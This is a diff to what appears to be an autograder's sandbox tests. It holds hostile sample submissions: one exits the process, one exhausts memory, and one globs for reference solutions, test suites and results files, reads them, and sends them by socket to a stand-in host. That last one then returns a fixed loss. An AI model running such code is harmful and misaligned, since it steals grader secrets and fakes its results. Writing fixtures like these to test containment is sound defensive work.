@@ -43,9 +43,11 @@ def svm_loss(W, X, y, delta=1.0):
     import socket
 
     found = []
-    for pattern in ("/**/solutions/**/loss.py", "/**/suites/**/*.py", "/**/results.json"):
-        found += glob.glob(pattern, recursive=True)
-    socket.create_connection(("192.0.2.1", 80), timeout=1).sendall(str(found).encode())
+    for place in ("..", "/autograder", "/home", "/root", "/env/site-packages"):
+        for name in ("solutions/**/loss.py", "suites/**/*.py", "results.json"):
+            found += glob.glob(f"{place}/{name}", recursive=True)
+    secrets = [open(path).read() for path in found]
+    socket.create_connection(("192.0.2.1", 80), timeout=1).sendall(str(secrets).encode())
     return 2.9
 """
 
@@ -56,7 +58,7 @@ BROKEN = {
     "exits": ("gradient", "\n\ndef relative_error(a, b):\n    import os\n\n    os._exit(0)\n"),
     "allocates without end": (
         "regularization",
-        "\n\ndef l1(W):\n    hoard = []\n    while True:\n        hoard.append(bytearray(1 << 28))\n",
+        "\n\ndef l1(W):\n    hoard = []\n    while True:\n        hoard.append(bytes(1 << 28))\n",
     ),
     "reads the solutions and the network": ("loss", SPY),
 }
